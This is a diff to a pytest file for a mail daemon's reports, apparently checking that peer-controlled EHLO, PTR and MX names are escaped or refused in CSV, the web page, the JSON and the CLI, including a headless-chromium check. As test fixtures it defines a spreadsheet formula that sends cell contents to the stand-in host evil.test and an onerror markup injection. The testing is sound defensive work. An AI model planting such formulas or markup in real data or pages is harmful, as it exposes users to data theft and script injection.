@@ -1,20 +1,25 @@
-"""Names that a peer controls, in the report outputs: an EHLO name written as a spreadsheet formula, and reverse
+"""Names that a peer controls, in the report outputs: an EHLO name written as a spreadsheet formula or as markup that
+would run in a browser (checked in headless chromium), and reverse
 (PTR) and MX names with control characters in a DNS zone of the peer's own (served here by knotd). The CSV must
 not hand a spreadsheet a formula, and `mailflowd report` must not print a name that is no host name (an escape
 sequence reaches the administrator's terminal); the page and the JSON escape what they show."""
 import csv
+import html
 import io
 import json
+import re
 import shutil
 import sys
 import tempfile
 import time
+import types
 from pathlib import Path
 
 import pytest
 
 import harness
 import report_helpers as rh
+import test_browser as tb
 
 sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tools"))
 from dns_server import KnotServer  # noqa: E402
@@ -41,7 +46,8 @@ $TTL 300
 42           PTR   {BAD_LABEL}.example.net.
 """
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"x")'
-MARKUP = "<img/src=x/onerror=alert(1)>"
+# Markup that, were it not escaped, would run as the page loads and mark the document (seen in chromium's DOM).
+MARKUP = "<img/src/onerror=document.body.id=/xss/.source>"
 
 
 @pytest.fixture(scope="module")
@@ -140,11 +146,66 @@ def test_a_name_that_is_no_host_name_is_not_verified_nor_connected_to(env):
     assert outbound.rc != 0 and "451 4.4.3" in outbound.out, str(outbound)
 
 
+def test_markup_in_an_ehlo_name_does_not_run_in_a_browser(env, workdir):
+    """The page in headless chromium, every drill-down opened: the EHLO name is text in its cell and in the
+    insight's offender, and its onerror never ran (it would have set the body's id)."""
+    browser = tb.chromium_path()
+    if not browser:
+        pytest.skip("chromium is not installed (deploy/dev/deps.sh test installs it)")
+    daemon, _, _ = env
+    status, page = daemon.get("/")
+    assert status == 200
+    # Opened, so that whatever is in a drill-down is parsed and loaded as the browser would once clicked.
+    path = workdir / "hostile-page.html"
+    path.write_text(page.replace("<details ", "<details open "))
+    chromium = tb.Chromium(types.SimpleNamespace(browser=browser, workdir=workdir), "hostile")
+    for url in (daemon.http + "/", path.as_uri()):
+        dom = chromium.run("--dump-dom", "--virtual-time-budget=2000", url)
+        assert "<html" in dom and "partner-in" in dom, dom[:500]
+        body = re.search(r"<body[^>]*>", dom).group(0)
+        assert "xss" not in body, (url, body)
+        assert dom.count(html.escape(MARKUP, quote=False)) >= 2, url  # the cell and the insight, as text
+
+
 def test_page_and_json_escape_what_they_show(env):
     daemon, _, _ = env
     status, page = daemon.get("/")
     assert status == 200
-    assert MARKUP not in page and "&lt;img/src=x/onerror=alert(1)&gt;" in page
+    assert MARKUP not in page and "&lt;img/src/onerror=document.body.id=/xss/.source&gt;" in page
     status, body, _ = rh.http_get(daemon, "/api/v1/report")
     assert status == 200
     assert remotes_rows(json.loads(body))[EVIL]["name"] == MARKUP
+
+
+@pytest.fixture(scope="module")
+def other_env(sink_factory, daemon_factory):
+    """Outbound through a fixed upstream with room for one destination domain: a message to b.test, then two to a
+    real domain named "other", which takes the one row; b.test's message is summed in the row of the rest."""
+    store = sink_factory("store-other")
+    listeners = [{"name": "out", "address": f"127.0.0.1:{harness.free_port()}", "direction": "outbound",
+                  "upstream": "store"}]
+    upstreams = [{"name": "store", "address": f"127.0.0.1:{store.port}", "tls": "none"}]
+    daemon = daemon_factory(listeners, upstreams, [], name="domain-other", telemetry={"top_domains": 1})
+    before = daemon.metrics()
+    for to in ("rcpt@b.test", "rcpt@other", "rcpt@other"):
+        r = harness.swaks(daemon.listener_port("out"), to=to, sender="app@corp.example", data=rh.MESSAGE)
+        assert r.rc == 0, str(r)
+    harness.wait_moved(daemon, before, at_least=3)
+    return daemon
+
+
+def test_a_domain_named_other_is_not_the_row_of_the_rest(other_env, mailflowd_bin):
+    status, body, _ = rh.http_get(other_env, "/api/v1/domains.csv")
+    assert status == 200
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert len(rows) == 2, body
+    named = [r for r in rows if r["domain"] == "other"]
+    assert len(named) == 1 and named[0]["none"] == "2", body  # the domain, not the rest
+    rest = [r for r in rows if r["domain"] != "other"]
+    assert rest[0]["none"] == "1" and rest[0]["domain"] != "b.test", body
+    res = rh.run_cli(mailflowd_bin, "--url", other_env.http, "--domains")
+    assert res.returncode == 0, res.stderr
+    assert [ln.split()[1] for ln in res.stdout.splitlines() if ln.split()[:1] == ["other"]] == ["127.0.0.1"], \
+        res.stdout  # the domain's row (its MX host column names the upstream), not also the rest's
+    status, page = other_env.get("/")
+    assert status == 200 and page.count("<td>other</td>") == 1, page[page.index('id="drilldown"'):]
